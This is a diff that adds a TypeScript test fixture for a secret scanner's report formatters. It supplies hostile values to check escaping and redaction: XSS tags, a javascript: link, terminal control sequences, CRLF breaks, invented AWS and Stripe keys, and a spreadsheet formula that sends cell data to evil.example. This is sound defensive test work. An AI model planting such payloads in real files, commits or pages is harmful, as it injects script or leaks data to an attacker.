@@ -1,0 +1,77 @@
+// Report data with hostile values (paths, authors and messages are whatever a committer wrote) for the formatter tests.
+import type { Finding } from '../../src/findings/finding.js';
+import type { ReportRule } from '../../src/report/report-rules.js';
+import type { ScanReport } from '../../src/scan/run-scan.js';
+
+/** Invented, shape-valid values: they must never appear in a report that is not allowed to show secrets. */
+export const SECRET = 'AKIAQ3EGRTXMPL7ZK2NB';
+export const SECRET_2 = 'sk_live_4eC39HqLyjWDarjtT1zdp7dcZZQ9xV3b';
+
+export const NASTY_PATHS = {
+  spaces: 'config dir/#1 secrets?.env',
+  markup: 'web/<img src=x onerror=alert(1)>.html',
+  control: 'odd/ctrl\u0001\u001b[31mred\u007f.txt',
+  formula: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  newline: 'two\r\nlines, "quoted".txt',
+  unicode: 'docs/ünïcødé/日本語 ✓.md',
+} as const;
+
+export const RULES: ReportRule[] = [
+  { id: 'aws.access-key-id', name: 'AWS access key ID', severity: 'high', references: ['https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_access-keys.html'] },
+  { id: 'stripe.secret-key', name: 'Stripe secret key', severity: 'critical', references: ['javascript:alert(1)', 'https://docs.stripe.com/keys'] },
+  { id: 'generic.password', name: 'Password assignment', severity: 'medium' },
+  { id: 'unused.rule', name: 'A rule with no finding', severity: 'low' },
+];
+
+export function finding(path: string, extra: Partial<Finding> = {}): Finding {
+  return {
+    ruleId: 'aws.access-key-id',
+    ruleName: 'AWS access key ID',
+    severity: 'high',
+    path,
+    commit: '9f3c1b2a'.repeat(5),
+    author: 'Ann Example',
+    email: 'ann@example.com',
+    date: '2024-03-01T10:12:00+01:00',
+    message: 'add aws config',
+    line: 3,
+    column: 10,
+    fingerprint: '4be1'.repeat(16),
+    redacted: 'AKIA********',
+    blob: '1d2e'.repeat(10),
+    laterCommits: [],
+    ...extra,
+  };
+}
+
+export function summary(findings: number, extra: Partial<ScanReport['summary']> = {}): ScanReport['summary'] {
+  return {
+    version: '0.1.0', engine: 'git', mode: 'history', path: '.', rules: 4, commits: 6413, blobsScanned: 11803, bytesScanned: 154_000_000, blobsReused: 2210,
+    blobsSkipped: { binary: 1, 'too-large': 0, missing: 0, failed: 0 },
+    skipped: [{ oid: 'ab'.repeat(20), path: 'img/<b>logo</b>.png', reason: 'binary', size: 5021 }],
+    findings, incomplete: false, durationMs: 1830,
+    ...extra,
+  };
+}
+
+/** Every hostile path once, some with secrets (as with --show-secrets), hostile authors and messages. */
+export function nastyReport(options: { secrets: boolean }): ScanReport {
+  const secret = (value: string): Partial<Finding> => (options.secrets ? { secret: value } : {});
+  const findings: Finding[] = [
+    finding(NASTY_PATHS.spaces, { ...secret(SECRET), laterCommits: ['77aa'.repeat(10), '88bb'.repeat(10)] }),
+    finding(NASTY_PATHS.markup, { ...secret(SECRET), author: '<script>alert("author")</script>', email: 'x@evil.example' }),
+    finding(NASTY_PATHS.control, { ...secret(SECRET), author: 'Ctrl\u0007\u0000Bell', message: 'ctrl \u0008 message' }),
+    finding(NASTY_PATHS.formula, {
+      ...secret(SECRET_2), ruleId: 'stripe.secret-key', ruleName: 'Stripe secret key', severity: 'critical', redacted: 'sk_l********',
+      author: '+SUM(1,2)', email: '@evil.example', line: 1, column: 1,
+    }),
+    finding(NASTY_PATHS.newline, { ...secret(SECRET), author: 'Eve "the, quoter"', message: 'line one\r\nline two ]]> & <b>' }),
+    finding(NASTY_PATHS.unicode, {
+      ...secret('hunter2hunter2'), ruleId: 'generic.password', ruleName: 'Password assignment', severity: 'medium', redacted: '********',
+      author: 'Zoë Ångström\t-tab', line: 12, column: 7,
+    }),
+    // a rule the caller did not pass (another ruleset): must still get a rule entry
+    finding('plain.txt', { ruleId: 'custom.token', ruleName: 'Custom token', severity: 'low', commit: undefined, author: undefined, email: undefined, date: undefined, message: undefined }),
+  ];
+  return { findings, summary: summary(findings.length) };
+}
